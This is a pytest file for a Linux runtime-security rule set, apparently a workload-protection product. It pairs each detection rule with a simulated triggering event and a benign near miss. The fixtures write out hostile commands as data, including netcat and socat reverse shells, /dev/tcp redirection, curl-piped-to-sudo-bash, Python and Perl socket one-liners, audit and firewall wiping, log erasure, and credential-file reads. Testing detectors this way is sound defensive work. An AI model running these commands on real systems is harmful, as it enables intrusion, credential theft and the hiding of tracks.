"""The rule set that comes along: each rule has a reason and is triggered by what it is for."""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass
from typing import Any, Final

import pytest

from sealwire.secl.catalogue import FIELDS, Place
from sealwire.secl.constants import CONSTANTS
from sealwire.secl.event import Event, Process
from sealwire.secl.merge import Loaded, load
from sealwire.secl.variables import VariableStore
from sealwire.server.workload.bundled import bundled
from sealwire.server.workload.cws_dd import PRODUCT
from sealwire.server.workload.policy_checks import policy_of
from sealwire.server.workload.rule_sets import look

WANTED: Final = {
    "exec", "open", "chmod", "chown", "link", "rename", "unlink", "connect", "dns", "ptrace", "load_module",
    "setuid",
}  # fmt: skip


def load_bundled() -> Loaded:
    policy = policy_of(bundled().document, name="default.policy")
    return load([policy], host={"os": "linux"}, agent_version="7.80.0", store=VariableStore(), new_id=str)


LOADED: Final = load_bundled()


# Events as sources record them ------------------------------------------------------------------------------


def process(path: str, *argv: str, parent: Process | None = None, **more: Any) -> Process:
    name = path.rpartition("/")[2]
    values = {
        "file.path": path,
        "argv": argv,
        "argv0": more.pop("argv0", name),
        "comm": name[:15],
        "pid": 4711,
    }
    named = {key.replace("__", "."): value for key, value in more.items()}
    return Process({"uid": 0, "euid": 0, "user": "root", **values, **named}, parent)


INIT = process("/usr/lib/systemd/systemd")
SSHD = process("/usr/sbin/sshd", parent=INIT)
SHELL = process("/usr/bin/bash", parent=SSHD)
NGINX = process("/usr/sbin/nginx", parent=INIT)
BELOW_NGINX = process("/usr/bin/dash", parent=NGINX, user="www-data", uid=33, euid=33)
PYTHON = process("/usr/bin/python3.11", parent=SHELL)
DPKG = process("/usr/bin/dpkg", parent=SHELL)
USERADD = process("/usr/sbin/useradd", parent=SHELL)
CP = process("/usr/bin/cp", parent=SHELL)


def ran(path: str, *argv: str, parent: Process = SHELL, **more: Any) -> Event:
    return Event("exec", process=process(path, *argv, parent=parent, **more))


def bits(words: str) -> int:
    total = 0
    for word in words.split("|"):
        total |= CONSTANTS[word]
    return total


def opened(path: str, flags: str = "O_RDONLY", by: Process = PYTHON) -> Event:
    return Event("open", values={"open.file.path": path, "open.flags": bits(flags)}, process=by)


def wrote(path: str, by: Process = PYTHON) -> Event:
    return opened(path, "O_WRONLY|O_CREAT|O_TRUNC", by)


def chmod(path: str, rights: int, *, mode: int = 0o100644, by: Process = PYTHON) -> Event:
    values = {
        "chmod.file.path": path,
        "chmod.file.mode": mode,
        "chmod.file.destination.mode": (mode & 0o170000) | rights,
        "chmod.file.destination.rights": rights,
    }
    return Event("chmod", values=values, process=by)


def chown(path: str, uid: int, *, before: int = 0, by: Process = PYTHON) -> Event:
    values = {
        "chown.file.path": path,
        "chown.file.mode": 0o100755,
        "chown.file.uid": before,
        "chown.file.destination.uid": uid,
    }
    return Event("chown", values=values, process=by)


def linked(path: str, to: str, *, mode: int = 0o100644, by: Process = PYTHON) -> Event:
    values = {"link.file.path": path, "link.file.mode": mode, "link.file.destination.path": to}
    return Event("link", values=values, process=by)


def renamed(path: str, to: str, by: Process = PYTHON) -> Event:
    return Event("rename", values={"rename.file.path": path, "rename.file.destination.path": to}, process=by)


def deleted(path: str, by: Process = PYTHON) -> Event:
    return Event("unlink", values={"unlink.file.path": path}, process=by)


def connected(
    ip: str, port: int, by: Process = PYTHON, family: str = "AF_INET", public: bool = True
) -> Event:
    values = {
        "connect.addr.ip": ip,
        "connect.addr.port": port,
        "connect.addr.family": CONSTANTS[family],
        "connect.addr.is_public": public,
    }
    return Event("connect", values=values, process=by)


def asked(name: str, type_: str = "A", by: Process = PYTHON) -> Event:
    values = {"dns.question.name": name, "dns.question.type": CONSTANTS[type_]}
    return Event("dns", values=values, process=by)


def traced(request: str, by: Process = PYTHON, target: str = "/usr/bin/sleep") -> Event:
    return Event("ptrace", values={"ptrace.request": CONSTANTS[request]}, process=by, target=process(target))


def module(name: str, path: str = "", by: Process = PYTHON, *, from_memory: bool = False) -> Event:
    values = {
        "load_module.name": name,
        "load_module.file.path": path,
        "load_module.loaded_from_memory": from_memory,
    }
    return Event("load_module", values=values, process=by)


def became_root(by: Process) -> Event:
    return Event("setuid", values={"setuid.uid": 0, "setuid.euid": 0}, process=by)


def user(path: str, *argv: str, parent: Process = SHELL, **more: Any) -> Process:
    return process(path, *argv, parent=parent, uid=1000, euid=1000, user="ada", **more)


@dataclass(frozen=True)
class Case:
    """An event that triggers a rule, and one close to it that does not."""

    hit: Event
    miss: Event


KMOD = process("/usr/bin/kmod", parent=SHELL)
IN_A_CONTAINER = process("/usr/bin/kmod", parent=SHELL, container__id="a" * 64)

CASES: Final[dict[str, Case]] = {
    # exec
    "program_without_a_file": Case(ran("/memfd:stage2 (deleted)"), ran("/usr/bin/memfd-test")),
    "program_from_shared_memory": Case(ran("/dev/shm/x/run"), ran("/usr/share/run")),
    "hidden_program_from_scratch_directory": Case(ran("/tmp/.x/.run"), ran("/tmp/build/run")),
    "shell_under_another_name": Case(
        ran("/usr/bin/bash", argv0="crond"), ran("/usr/bin/bash", argv0="-bash")
    ),
    "shell_copied_elsewhere": Case(ran("/tmp/bash", "-p"), ran("/usr/bin/bash", "-p")),
    "program_named_like_kernel_thread": Case(
        ran("/opt/x", argv0="[kworker/0:1]"), ran("/opt/kworker", argv0="kworker")
    ),
    "shell_started_by_web_server": Case(
        ran("/usr/bin/dash", "-c", "id", parent=NGINX), ran("/usr/bin/dash", parent=INIT)
    ),
    "look_around_below_web_server": Case(ran("/usr/bin/whoami", parent=BELOW_NGINX), ran("/usr/bin/whoami")),
    "shell_started_by_data_store": Case(
        ran("/usr/bin/dash", parent=process("/usr/bin/redis-server")),
        ran("/usr/bin/redis-cli", parent=process("/usr/bin/redis-server")),
    ),
    "service_account_at_a_terminal": Case(
        ran("/usr/bin/bash", user="www-data", tty_name="pts0"), ran("/usr/bin/bash", user="www-data")
    ),
    "shell_with_borrowed_root": Case(
        ran("/usr/bin/dash", uid=1000, euid=0), ran("/usr/bin/dash", uid=0, euid=0)
    ),
    "netcat_hands_out_a_program": Case(
        ran("/usr/bin/nc.traditional", "-e", "/bin/sh", "192.0.2.1", "9"),
        ran("/usr/bin/nc.openbsd", "-vz", "192.0.2.1", "9"),
    ),
    "socat_hands_out_a_program": Case(
        ran("/usr/bin/socat", "TCP:192.0.2.1:9", "EXEC:bash,pty"),
        ran("/usr/bin/socat", "TCP-LISTEN:80", "TCP:192.0.2.1:80"),
    ),
    "shell_redirected_to_the_network": Case(
        ran("/usr/bin/bash", "-c", "exec 3<>/dev/tcp/192.0.2.1/9"), ran("/usr/bin/bash", "-c", "ls /dev/tty")
    ),
    "script_piped_from_download": Case(
        ran("/usr/bin/dash", "-c", "curl -s http://192.0.2.1/a | sudo bash"),
        ran("/usr/bin/dash", "-c", "curl -s http://192.0.2.1/a | tar xz"),
    ),
    "encoded_script_run": Case(
        ran("/usr/bin/bash", "-c", "echo aWQ= | base64 -d | sh"),
        ran("/usr/bin/bash", "-c", "echo aWQ= | base64 -d > file"),
    ),
    "python_one_liner_with_socket": Case(
        ran("/usr/bin/python3.11", "-c", "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)"),
        ran("/usr/bin/python3.11", "-c", "import socket;print(socket.gethostname())"),
    ),
    "script_one_liner_with_socket": Case(
        ran("/usr/bin/perl", "-e", 'use Socket;socket(S,2,1,6);exec("/bin/sh")'),
        ran("/usr/bin/perl", "-e", "print 1"),
    ),
    "network_scanner_started": Case(ran("/usr/bin/nmap", "-sS", "10.0.0.0/8"), ran("/usr/bin/nmcli")),
    "password_tool_started": Case(ran("/usr/sbin/john", "hashes"), ran("/usr/bin/join", "a", "b")),
    "miner_started": Case(
        ran("/opt/app", "-o", "stratum+tcp://pool.example:3333"),
        ran("/opt/app", "-o", "tcp://pool.example:3333"),
    ),
    "security_service_stopped": Case(
        ran("/usr/bin/systemctl", "disable", "--now", "auditd.service"),
        ran("/usr/bin/systemctl", "status", "auditd.service"),
    ),
    "audit_rules_taken_away": Case(ran("/usr/sbin/auditctl", "-D"), ran("/usr/sbin/auditctl", "-l")),
    "firewall_emptied": Case(
        ran("/usr/sbin/xtables-nft-multi", "-F", argv0="iptables"), ran("/usr/sbin/nft", "list", "ruleset")
    ),
    "namespaces_of_init_entered": Case(
        ran("/usr/bin/nsenter", "-t", "1", "-m", "-u", "sh"),
        ran("/usr/bin/nsenter", "-t", "4711", "-n", "ss"),
    ),
    "reverse_tunnel_opened": Case(
        ran("/usr/bin/ssh", "-fNR", "2222:localhost:22", "out.example"), ran("/usr/bin/ssh", "host", "uptime")
    ),
    "tunnel_program_started": Case(
        ran("/usr/local/bin/chisel", "client"), ran("/usr/local/bin/consul", "agent")
    ),
    "file_made_unchangeable": Case(
        ran("/usr/bin/chattr", "+i", "/etc/x"), ran("/usr/bin/chattr", "+C", "/var/x")
    ),
    "account_with_root_id_made": Case(
        ran("/usr/sbin/useradd", "-o", "-u", "0", "toor"), ran("/usr/sbin/useradd", "-u", "1001", "ada")
    ),
    "log_erased_by_command": Case(
        ran("/usr/bin/journalctl", "--vacuum-time=1s"), ran("/usr/bin/journalctl", "--vacuum-time=30d")
    ),
    # open
    "scheduled_job_written": Case(wrote("/etc/cron.d/job"), wrote("/etc/cron.d/job", by=DPKG)),
    "service_unit_written": Case(
        wrote("/etc/systemd/system/x.service"), opened("/etc/systemd/system/x.service", by=INIT)
    ),
    "shell_startup_written": Case(wrote("/home/ada/.bashrc"), opened("/home/ada/.bashrc")),
    "ssh_keys_added": Case(
        wrote("/root/.ssh/authorized_keys"), opened("/root/.ssh/authorized_keys", by=SSHD)
    ),
    "account_files_written": Case(wrote("/etc/passwd"), wrote("/etc/passwd", by=USERADD)),
    "password_hashes_read": Case(opened("/etc/shadow", by=CP), opened("/etc/shadow", by=SSHD)),
    "sudo_rules_written": Case(
        wrote("/etc/sudoers.d/x"), opened("/etc/sudoers.d/x", by=process("/usr/bin/sudo", parent=SHELL))
    ),
    "preload_written": Case(wrote("/etc/ld.so.preload"), opened("/etc/ld.so.preload")),
    "login_modules_written": Case(
        wrote("/usr/lib/x86_64-linux-gnu/security/pam_unix.so"),
        wrote("/usr/lib/x86_64-linux-gnu/security/pam_unix.so", by=DPKG),
    ),
    "ssh_private_key_read": Case(
        opened("/home/ada/.ssh/id_ed25519", by=CP),
        opened("/home/ada/.ssh/id_ed25519", by=process("/usr/bin/ssh", parent=SHELL)),
    ),
    "cloud_credentials_read": Case(
        opened("/root/.kube/config", by=CP),
        opened("/root/.kube/config", by=process("/usr/bin/kubectl", parent=SHELL)),
    ),
    "memory_of_the_host_opened": Case(opened("/proc/kcore"), opened("/proc/meminfo")),
    "kernel_helper_written": Case(
        wrote("/proc/sys/kernel/core_pattern"),
        wrote("/proc/sys/kernel/core_pattern", by=process("/usr/sbin/sysctl", parent=SHELL)),
    ),
    "script_written_by_web_server": Case(
        wrote("/var/www/html/up/a.php", by=NGINX), wrote("/var/www/html/up/a.png", by=NGINX)
    ),
    "log_cut_short": Case(wrote("/var/log/auth.log"), opened("/var/log/auth.log", "O_WRONLY|O_APPEND")),
    "module_autoload_written": Case(
        wrote("/etc/modules-load.d/x.conf"), opened("/etc/modules-load.d/x.conf")
    ),
    "watcher_settings_written": Case(wrote("/etc/sealwire/agent.yaml"), opened("/etc/sealwire/agent.yaml")),
    # chmod, chown
    "setuid_bit_given": Case(chmod("/home/ada/x", 0o4755), chmod("/home/ada/x", 0o755)),
    "setgid_bit_given_to_program": Case(
        chmod("/home/ada/x", 0o2755), chmod("/srv/shared", 0o2775, mode=0o040755)
    ),
    "scratch_file_made_executable": Case(chmod("/dev/shm/x", 0o755), chmod("/tmp/build.sh", 0o755)),
    "system_file_opened_to_all": Case(chmod("/etc/passwd", 0o666), chmod("/etc/passwd", 0o644)),
    "password_hashes_opened_to_all": Case(chmod("/etc/shadow", 0o644), chmod("/etc/shadow", 0o640)),
    "file_of_all_given_to_root": Case(chown("/tmp/x", 0, before=1000), chown("/tmp/x", 0, before=0)),
    "access_file_given_away": Case(chown("/etc/sudoers", 1000), chown("/etc/sudoers", 4294967295)),
    # link, rename, unlink
    "second_name_for_setuid_program": Case(
        linked("/usr/bin/sudo", "/home/ada/s", mode=0o104755),
        linked("/usr/bin/ls", "/home/ada/l", mode=0o100755),
    ),
    "second_name_for_secret_file": Case(
        linked("/etc/shadow", "/tmp/x"), linked("/etc/shadow", "/etc/shadow.lock", by=USERADD)
    ),
    "account_file_replaced": Case(
        renamed("/etc/passwd.new", "/etc/passwd"), renamed("/etc/npasswd", "/etc/passwd", by=USERADD)
    ),
    "system_program_replaced": Case(
        renamed("/usr/bin/.ls", "/usr/bin/ls"), renamed("/usr/bin/ls.dpkg-new", "/usr/bin/ls", by=DPKG)
    ),
    "job_or_unit_moved_in": Case(
        renamed("/tmp/job", "/etc/cron.d/job"), renamed("/etc/cron.d/.job", "/etc/cron.d/job")
    ),
    "log_moved_away": Case(
        renamed("/var/log/wtmp", "/tmp/w"),
        renamed("/var/log/wtmp", "/var/log/wtmp.1", by=process("/usr/sbin/logrotate")),
    ),
    "log_deleted": Case(
        deleted("/var/log/auth.log"), deleted("/var/log/auth.log", by=process("/usr/sbin/logrotate"))
    ),
    "typed_commands_deleted": Case(deleted("/root/.bash_history"), deleted("/root/.bash_logout")),
    "program_deletes_itself": Case(
        deleted("/tmp/x", by=process("/tmp/x")), deleted("/tmp/y", by=process("/tmp/x"))
    ),
    "watcher_settings_deleted": Case(deleted("/etc/audit/rules.d/a.rules"), deleted("/etc/audit-x")),
    # connect, dns
    "shell_connects": Case(connected("127.0.0.1", 9, by=SHELL), connected("127.0.0.1", 9, by=PYTHON)),
    "scratch_program_connects": Case(
        connected("192.0.2.1", 443, by=process("/tmp/x")), connected("192.0.2.1", 443, by=process("/opt/x"))
    ),
    "metadata_service_asked_by_tool": Case(
        connected("169.254.169.254", 80, by=process("/usr/bin/curl")),
        connected("169.254.169.254", 80, by=process("/usr/bin/amazon-ssm-agent")),
    ),
    "mining_port_connected": Case(connected("8.8.4.4", 14444), connected("10.0.0.1", 14444, public=False)),
    "tor_used": Case(connected("127.0.0.1", 9050), connected("127.0.0.1", 9050, by=process("/usr/bin/tor"))),
    "chat_port_connected": Case(
        connected("192.0.2.1", 6667), connected("192.0.2.1", 6667, by=process("/usr/bin/irssi"))
    ),
    "docker_without_tls_connected": Case(connected("10.0.0.1", 2375), connected("10.0.0.1", 2376)),
    "service_account_runs_ssh": Case(
        connected("10.0.0.2", 22, by=process("/usr/bin/ssh", parent=BELOW_NGINX)),
        connected("10.0.0.2", 22, by=process("/usr/bin/ssh", parent=SHELL)),
    ),
    "mining_pool_looked_up": Case(asked("POOL.supportxmr.com"), asked("supportxmr.example")),
    "callback_name_looked_up": Case(asked("abc.oast.fun"), asked("toast.fun")),
    "tunnel_name_looked_up": Case(asked("x.trycloudflare.com"), asked("www.cloudflare.com")),
    "onion_name_looked_up": Case(asked("abcdef.onion"), asked("onion.example")),
    "data_in_a_name": Case(asked(f"{'a' * 60}.{'b' * 60}.{'c' * 60}.example"), asked("www.example")),
    "shell_asks_for_text_record": Case(
        asked(f"{'a' * 60}.example", "TXT", by=process("/usr/bin/dig", parent=SHELL)),
        asked("example", "TXT", by=process("/usr/bin/dig", parent=SHELL)),
    ),
    # ptrace, load_module, setuid
    "process_attached": Case(
        traced("PTRACE_ATTACH"), traced("PTRACE_ATTACH", by=process("/usr/bin/strace", parent=SHELL))
    ),
    "memory_of_another_written": Case(traced("PTRACE_POKEDATA"), traced("PTRACE_PEEKDATA")),
    "guardian_of_passwords_attached": Case(
        traced("PTRACE_SEIZE", by=process("/usr/bin/strace"), target="/usr/sbin/sshd"),
        traced("PTRACE_SEIZE", by=process("/usr/bin/strace"), target="/usr/bin/sleep"),
    ),
    "module_from_outside": Case(
        module("x", "/root/x.ko", by=KMOD),
        module("nbd", "/lib/modules/6.1.0/kernel/drivers/block/nbd.ko", by=KMOD),
    ),
    "module_from_memory": Case(module("x", from_memory=True), module("nbd", from_memory=True, by=KMOD)),
    "module_loaded_in_container": Case(
        module("nbd", "/lib/modules/6.1.0/nbd.ko", by=IN_A_CONTAINER),
        module("nbd", "/lib/modules/6.1.0/nbd.ko", by=KMOD),
    ),
    "known_rootkit_loaded": Case(
        module("diamorphine", "/lib/modules/6.1.0/d.ko"), module("dm_crypt", "/lib/modules/6.1.0/dm-crypt.ko")
    ),
    "root_taken_by_scratch_program": Case(
        became_root(user("/tmp/exploit")), became_root(user("/usr/bin/su"))
    ),
    "root_taken_by_interpreter": Case(became_root(user("/usr/bin/python3.11")), became_root(PYTHON)),
    "root_taken_below_web_server": Case(
        became_root(user("/usr/bin/su", parent=BELOW_NGINX)),
        became_root(user("/usr/sbin/nginx", parent=NGINX)),
    ),
}


def matching(event: Event) -> set[str]:
    return {match.rule.id for match in LOADED.rule_set.evaluate(event, now_ns=0)}


# The set ----------------------------------------------------------------------------------------------------


def test_every_rule_loads_and_there_are_enough_over_all_kinds_of_event() -> None:
    rules = LOADED.rule_set.rules
    kinds = Counter(event for rule in rules for event in rule.event_types)

    assert LOADED.problems == ()
    assert len(rules) == len(bundled().document["rules"]) >= 40
    assert set(kinds) >= WANTED


def test_no_rule_is_broken_and_none_falls_into_the_precedence_trap() -> None:
    found = look(bundled().document)

    assert found.may_go_by_itself
    assert found.cautions == ()
    assert PRODUCT.warn(bundled().document, {}) == ()
    assert bundled().notes == ()


@pytest.mark.parametrize("rule", bundled().document["rules"], ids=lambda rule: rule["id"])
def test_every_rule_has_a_description_a_reason_and_tags(rule: dict[str, Any]) -> None:
    assert rule["description"][0].isupper()
    assert not rule["description"].endswith(".")
    assert bundled().reasons[rule["id"]].endswith(".")
    assert set(rule["tags"]) == {"tactic", "technique"}
    assert "reason" not in rule


def test_every_rule_has_an_event_that_triggers_it_and_one_that_does_not() -> None:
    assert set(CASES) == {rule["id"] for rule in bundled().document["rules"]}


@pytest.mark.parametrize("rule_id", CASES)
def test_what_a_rule_is_for_triggers_it(rule_id: str) -> None:
    assert rule_id in matching(CASES[rule_id].hit)


@pytest.mark.parametrize("rule_id", CASES)
def test_what_is_near_it_does_not(rule_id: str) -> None:
    assert rule_id not in matching(CASES[rule_id].miss)


@pytest.mark.parametrize("rule_id", CASES)
def test_the_events_are_such_as_can_be_recorded(rule_id: str) -> None:
    for event in (CASES[rule_id].hit, CASES[rule_id].miss):
        again = Event.from_document(event.to_document())

        assert set(event.values) <= set(FIELDS)
        assert (rule_id in matching(again)) == (event is CASES[rule_id].hit)


def test_no_rule_asks_for_what_the_first_source_cannot_give() -> None:
    """Audit, process cache and packets: no hashes, packages, layers, sessions or environments."""
    asked_for = {name for rule in LOADED.rule_set.rules for name in rule.fields}

    for name in asked_for:
        assert not any(
            part in name
            for part in (
                "hashes",
                "package",
                "upper_layer",
                "user_session",
                "envp",
                "envs",
                "helpers",
                "origin",
            )
        ), name
        assert FIELDS[name].os == ""
        assert FIELDS[name].place is not Place.HOST


BENIGN = [
    ran("/usr/bin/ls", "-la"),
    ran("/usr/bin/git", "status", parent=user("/usr/bin/bash")),
    ran("/usr/bin/bash", "-c", "make test", argv0="/bin/bash"),
    ran("/usr/bin/dash", "/usr/sbin/update-ca-certificates", argv0="/bin/sh"),
    ran("/usr/bin/dash", "-c", "test -x /usr/sbin/anacron", parent=process("/usr/sbin/cron")),
    ran("/usr/bin/python3.11", "-m", "pytest", "-q"),
    ran("/usr/bin/python3.11", "-c", "import sys; print(sys.version)"),
    ran("/usr/bin/sudo", "-i"),
    ran("/usr/bin/ssh", "-N", "-L", "5432:db:5432", "host"),
    ran("/usr/bin/systemctl", "restart", "nginx"),
    ran("/usr/bin/curl", "-fsS", "https://example.com"),
    ran("/tmp/pip-build/cc1", "-O2"),
    ran("/usr/sbin/iptables-save"),
    opened("/etc/passwd"),
    opened("/etc/crontab", by=process("/usr/sbin/cron")),
    opened("/root/.bashrc", by=SHELL),
    opened("/var/log/auth.log", "O_WRONLY|O_APPEND|O_CREAT", by=process("/usr/sbin/rsyslogd")),
    wrote("/tmp/x"),
    wrote("/home/ada/notes.txt"),
    chmod("/tmp/tmp.a1b2", 0o700, mode=0o040755),
    chmod("/usr/bin/x", 0o4755, by=DPKG),
    chown("/var/lib/x", 1000),
    linked("/home/ada/a", "/home/ada/b"),
    renamed("/home/ada/.a.swp", "/home/ada/a"),
    renamed("/var/spool/cron/crontabs/tmp.x", "/var/spool/cron/crontabs/ada", by=process("/usr/bin/crontab")),
    deleted("/tmp/x"),
    connected("93.184.216.34", 443),
    connected("", 0, family="AF_UNIX", by=SHELL),
    connected("127.0.0.1", 5432),
    asked("deb.debian.org"),
    asked("_dmarc.example.com", "TXT"),
    traced("PTRACE_TRACEME"),
    module("ext4", "/usr/lib/modules/6.1.0/kernel/fs/ext4/ext4.ko.xz", by=KMOD),
    became_root(process("/usr/sbin/cron")),
    became_root(user("/usr/bin/sudo")),
]


@pytest.mark.parametrize(
    "event", BENIGN, ids=lambda event: f"{event.type} {event.process.values['file.path']}"
)
def test_what_happens_every_day_triggers_nothing(event: Event) -> None:
    assert matching(event) == set()
